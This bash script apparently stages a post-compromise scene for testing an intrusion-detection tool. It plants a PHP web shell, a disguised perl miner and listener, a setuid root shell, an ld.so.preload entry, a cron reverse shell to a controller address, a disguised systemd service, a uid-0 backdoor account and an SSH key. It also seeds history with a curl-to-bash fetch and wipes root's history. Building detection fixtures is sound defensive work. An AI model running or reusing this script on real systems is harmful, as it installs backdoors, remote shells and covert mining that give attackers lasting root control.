#!/bin/bash
# shellcheck disable=SC2016 # Other interpreters expand those.
# What the intruder leaves once he is root. CONTROLLER: his address outside.
set -u
CONTROLLER=203.0.113.66
nest=/var/tmp/.x
mkdir -p "$nest"

# A web shell in the running site.
mkdir -p /var/www/html/uploads
cat >/var/www/html/uploads/cache.php <<'PHP'
<?php if (isset($_POST['code'])) { @eval(base64_decode($_POST['code'])); } if (isset($_POST['cmd'])) { system($_POST['cmd']); }
PHP
chown -R www-data:www-data /var/www/html/uploads

# A miner under a kernel-like name, whose file is gone.
cp /usr/bin/perl "$nest/kworkerd"
(
  cd "$nest" && exec setsid ./kworkerd -e '
    use IO::Socket::INET;
    while (1) {
      my $pool = IO::Socket::INET->new(PeerAddr => "203.0.113.66:3333", Timeout => 5);
      while ($pool && print $pool "{\"method\":\"login\"}\n") { $pool->flush; select undef, undef, undef, 0.5 }
      sleep 5;
    }' -- --pool "stratum+tcp://$CONTROLLER:3333" --user 44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A
) </dev/null >/dev/null 2>&1 &
sleep 2
rm "$nest/kworkerd"

# A listener that calls itself a kernel thread.
cp /usr/bin/perl "$nest/.lsn"
(
  setsid "$nest/.lsn" -e '
    use IO::Socket::INET;
    $0 = "[kworker/0:1]";
    my $door = IO::Socket::INET->new(LocalPort => 31337, Listen => 5, ReuseAddr => 1) or die;
    while (my $guest = $door->accept) { close $guest }' </dev/null >/dev/null 2>&1 &
)

# A shell that keeps root's rights, and a library in every process.
cp /bin/bash "$nest/.sh"
chmod 4755 "$nest/.sh"
cp /usr/lib/x86_64-linux-gnu/libutil.so.1 /usr/local/lib/libdbus-helper.so
echo /usr/local/lib/libdbus-helper.so >/etc/ld.so.preload

# Ways back.
printf '*/10 * * * * root bash -c "bash -i >& /dev/tcp/%s/4444 0>&1"\n' "$CONTROLLER" >/etc/cron.d/sysstat-update
cat >/etc/systemd/system/dbus-helper.service <<UNIT
[Unit]
Description=D-Bus helper
[Service]
ExecStart=/var/tmp/.x/kworkerd --pool stratum+tcp://$CONTROLLER:3333
Restart=always
[Install]
WantedBy=multi-user.target
UNIT
ln -s /etc/systemd/system/dbus-helper.service /etc/systemd/system/multi-user.target.wants/dbus-helper.service
useradd -o -u 0 -g 0 -G sudo -M -d /root -s /bin/bash sysupd
mkdir -p /root/.ssh
echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFakeKeyOfTheIntruderForTheTestsOfCordon0000 ops@backup' >>/root/.ssh/authorized_keys

# Histories: what was typed, and what was wiped. Without sudo's terminal, in whose background a shell would stop for ever.
setsid -w su deploy -c 'cd; HISTFILE=~/.bash_history bash -i' >/dev/null 2>&1 <<TYPED
curl -s --max-time 1 http://$CONTROLLER/x.sh | bash
history -w
TYPED
: >/root/.bash_history
